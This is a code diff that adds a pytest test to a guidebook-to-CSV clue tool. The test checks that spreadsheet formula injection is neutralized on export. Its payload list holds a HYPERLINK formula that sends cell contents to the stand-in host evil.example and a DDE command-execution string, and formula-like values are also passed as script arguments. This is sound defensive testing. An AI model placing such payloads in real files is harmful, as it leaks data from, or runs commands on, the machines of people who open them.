@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -78,6 +81,35 @@ def test_what_is_read_is_a_repository_that_the_family_reads(guidebook: tuple[Pat
     clues, _ = read_guidebook(*guidebook, source="a, guide", licence="mine")
     (tmp_path / "clues.csv").write_text(as_csv(clues), encoding="utf-8")
     assert [*clue_book(tmp_path / "clues.csv").clues.values()] == clues
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"map")',
+    "+cmd|' /C calc'!A0",
+    "-SUM(1)",
+    "@SUM(1)",
+    "\uff1d1+1",
+    "Poles; =SUM(1)",
+    "'=1+1 is what a sign says",
+    "''=1; '=2",
+]
+
+
+def test_no_cell_that_people_correct_is_a_formula_and_the_family_reads_what_stood_there(tmp_path: Path) -> None:
+    texts, images, out = tmp_path / "t.txt", tmp_path / "i.txt", tmp_path / "clues.csv"
+    texts.write_text("\n".join([*FORMULAS, "It's -5 here; one"]) + "\n", encoding="utf-8")
+    images.write_text("Kenya_1.jpg\n" * (len(FORMULAS) + 1))
+    script = Path(__file__).parents[3] / "recipes" / "clues" / "from_guidebook.py"
+    given = [texts, images, out, "--source", "=1+1", "--licence", "@A1"]
+    assert subprocess.run([sys.executable, "-P", script, *given], check=True).returncode == 0
+    for separator in ",;":
+        with out.open(encoding="utf-8", newline="") as file:
+            cells = [cell.strip(' "') for row in csv.reader(file, delimiter=separator) for cell in row]
+        assert len(cells) > len(FORMULAS) and not [cell for cell in cells if cell[:1] in "=+-@\uff1d" and cell], cells
+    clues = [*clue_book(out).clues.values()]
+    assert [clue.text for clue in clues] == [*FORMULAS, "It's -5 here; one"]
+    assert {(clue.source, clue.licence) for clue in clues} == {("=1+1", "@A1")}
+    assert ",It's -5 here; one," in out.read_text(), "other cells are as they were"
 
 
 def test_files_that_do_not_belong_together_or_cannot_be_read_are_refused(
